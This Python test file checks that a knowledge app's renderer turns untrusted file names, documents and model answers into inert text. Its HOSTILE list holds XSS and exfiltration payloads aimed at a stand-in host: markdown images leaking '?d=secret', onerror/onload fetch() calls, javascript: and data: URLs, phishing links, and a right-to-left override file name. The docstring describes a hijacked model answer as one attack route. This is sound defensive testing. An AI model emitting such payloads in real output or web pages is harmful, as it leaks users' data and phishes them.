"""Untrusted text is never markup (issue 24, items 1 and 2): :func:`knowledge.text.render.inert` / :func:`md`
for names and messages, :func:`knowledge.text.render.answer_html` for the model's answers.

Each hostile input is what an attacker would put in a file name, a document or a hijacked model's
answer to make the signed-in browser fetch an address (``![x](http://evil.example/x?d=secret)``) or
show a link to another host ("Click to sign in again").
"""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from knowledge.text import render
from knowledge.text.highlight import WORD_JOINER

EVIL = "evil.example"
HOSTILE_NAME = (
    "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) "
    "<img src=http://evil.example/h.png>.md"
)
HOSTILE = [
    HOSTILE_NAME,
    "![status](http://evil.example/x?d=secret)",
    "![a][1]\n\n[1]: http://evil.example/ref.png",
    "<http://evil.example/auto>",
    "see http://evil.example/bare and www.evil.example",
    "<img src=http://evil.example/h.png>",
    "<img src=x onerror=fetch('http://evil.example/e')>",
    '<a href="http://evil.example/a">click</a>',
    "<iframe src=http://evil.example/f></iframe>",
    "<svg onload=fetch('http://evil.example/s')></svg>",
    "<script src=http://evil.example/s.js></script>",
    "&lt;img src=http://evil.example/entity.png&gt;",
    "&#60;img src=http://evil.example/numeric.png&#62;",
    "[run](javascript:fetch('http://evil.example/j'))",
    "[data](data:text/html,<script>fetch('http://evil.example/d')</script>)",
    "![data](data:image/svg+xml,<svg onload=fetch('http://evil.example/d')>)",
    "[proto](//evil.example/p)",
    "[slash](/\\evil.example/b)",
    "[ref link][r]\n\n[r]: http://evil.example/r 'Sign in'",
    ":red[phish] :material/lock: $x^2$ **bold** `code`",
    "mail me: someone@evil.example or visit WWW.evil.example, HTTPS://evil.example/x",
    "<details open><summary>x</summary><img src=http://evil.example/d.png></details>",
    "<style>@import url(http://evil.example/c.css)</style>",
]


# Streamlit's Markdown makes links of addresses in decoded text (mdast-util-gfm-autolink-literal, as
# found in Streamlit 1.67's StreamlitMarkdown bundle).
GFM_AUTOLINK = re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE | re.ASCII)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII)


def external(markup: str) -> list[str]:
    """Every element of ``markup`` that would load or link: tags that fetch, links that leave."""
    soup = BeautifulSoup(markup, "html.parser")
    found = [
        str(t)
        for t in soup.find_all(
            [
                "img",
                "iframe",
                "script",
                "svg",
                "style",
                "object",
                "embed",
                "video",
                "audio",
                "source",
                "link",
                "form",
                "details",
            ]
        )
    ]
    for a in soup.find_all("a"):
        href = a.get("href", "")
        if not render._relative(href):
            found.append(str(a))
    found += [
        str(t)
        for t in soup.find_all(True)
        if any(k.startswith("on") or (k in ("src", "srcset", "style") and t.name not in ("th", "td")) for k in t.attrs)
    ]
    return found


def shown(markup: str) -> str:
    return BeautifulSoup(markup.replace("&#10;", "\n"), "html.parser").get_text()


def streamlit_pass(markup: str):
    """What a CommonMark renderer around the output (Streamlit's, with HTML allowed) reads it as."""
    return MarkdownIt("commonmark", {"html": True}).parse(markup)


@pytest.mark.parametrize("text", HOSTILE)
def test_an_answer_renders_nothing_that_loads_or_leaves(text: str):
    out = render.answer_html(text)
    assert external(out) == [], out
    assert "\n" not in out
    tokens = streamlit_pass(out)  # one HTML block: Streamlit's own Markdown pass reads nothing inside
    assert [t.type for t in tokens] == ["html_block"], out


def test_an_answer_keeps_what_a_reader_expects():
    out = render.answer_html(
        "# Plan\n\nSome *emphasis* and **bold**.\n\n1. one\n2. two\n\n- a\n- b\n\n"
        "```python\nif a < b:\n    print('<b>')\n```\n\n| col | n |\n|---|--:|\n| x | 1 |\n\n"
        "> quoted\n\nSee [the stores](/stores) and [below](#sources)."
    )
    soup = BeautifulSoup(out, "html.parser")
    assert soup.find("h1").get_text() == "Plan"
    assert soup.find("em") and soup.find("strong") and soup.find("ol") and soup.find("ul")
    assert soup.find("blockquote") and soup.find("table") and soup.find("td", string="x")
    code = soup.find("pre").get_text()
    assert "if a < b:\n    print('<b>')" in code.replace("\n", "\n")  # code as written, newlines kept
    assert [a["href"] for a in soup.find_all("a")] == ["/stores", "#sources"]  # the app's own links stay


def test_an_answer_shows_images_and_outside_links_as_words():
    said = shown(
        render.answer_html(
            "![status](http://evil.example/x?d=secret) and [Click to sign in again](http://evil.example/login)"
        )
    )
    assert "[image: status] (http://evil.example/x?d=secret)" in said
    assert "Click to sign in again (http://evil.example/login)" in said
    assert shown(render.answer_html("<img src=http://evil.example/h.png>")) == "<img src=http://evil.example/h.png>"
    assert shown(render.answer_html("<http://evil.example/a>")) == "http://evil.example/a"  # once, not twice


@pytest.mark.parametrize(
    "text",
    [
        *HOSTILE,
        "a\nb",
        "* not a list",
        "# not a heading",
        "1. not a list",
        "a & b < c > d \\ e",
        "    indented",
        "---",
        "| a | b |",
    ],
)
def test_inert_text_reads_as_exactly_itself(text: str):
    """Through a Markdown renderer (with or without HTML allowed), an inert value is one paragraph of
    plain text that reads as the value: no link, image, tag, emphasis, heading or code."""
    for html_allowed in (False, True):
        tokens = (
            MarkdownIt("commonmark", {"html": html_allowed}).enable(["table", "strikethrough"]).parse(render.inert(text))
        )
        assert {t.type for t in tokens} == {"paragraph_open", "inline", "paragraph_close"}, text
        kinds = {c.type for t in tokens if t.type == "inline" for c in t.children}
        assert kinds <= {"text", "softbreak", "hardbreak"}, (text, kinds)
        said = "\n\n".join(
            "".join("\n" if c.type.endswith("break") else c.content for c in t.children)
            for t in tokens
            if t.type == "inline"
        )
        assert not GFM_AUTOLINK.search(said) and not GFM_EMAIL.search(said), said  # no address to link
        assert said.replace(WORD_JOINER, "") == text.replace("\t", " "), (text, said)


def test_md_keeps_the_template_and_makes_the_values_inert():
    out = render.md("Delete **{}** from {store} ({n:.1f} chunks)?", HOSTILE_NAME, store="a*b", n=3)
    tokens = MarkdownIt("commonmark").parse(out)[1].children
    assert [t.type for t in tokens].count("strong_open") == 1
    assert not {t.type for t in tokens} & {"link_open", "image", "html_inline", "em_open"}
    text = "".join(t.content for t in tokens).replace(WORD_JOINER, "")
    assert text == f"Delete {HOSTILE_NAME} from a*b (3.0 chunks)?"


def test_a_bidirectional_control_is_shown_not_obeyed():
    """A refused name such as invoice<U+202E>gpj.md, shown in its own error line, would turn the rest
    of the line round (the override holds to the end of the paragraph): it is shown as [U+202E]."""
    name = "invoice\u202egpj.md"
    out = render.md("**{}** — the file name contains U+202E", name)
    tokens = MarkdownIt("commonmark").parse(out)[1].children
    text = "".join(t.content for t in tokens).replace(WORD_JOINER, "")
    assert text == "invoice[U+202E]gpj.md — the file name contains U+202E"
    assert not any(ch in out for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert render.inert("plain name.md") == render.inert("plain name.md")  # nothing else changes
    assert "U+" not in render.inert("a \u200e mark and \u05d0 Hebrew")  # marks and scripts stay as they are


def test_the_cli_shows_a_bidirectional_control_in_a_name_instead_of_obeying_it():
    from knowledge.cli.ingest import _Lines
    from knowledge.outcomes import IngestResult, Outcome

    line = _Lines(30).result(IngestResult("invoice\u202egpj.md", Outcome.FAILED, "refused: the name"), None)
    assert line.startswith("invoice[U+202E]gpj.md") and "\u202e" not in line
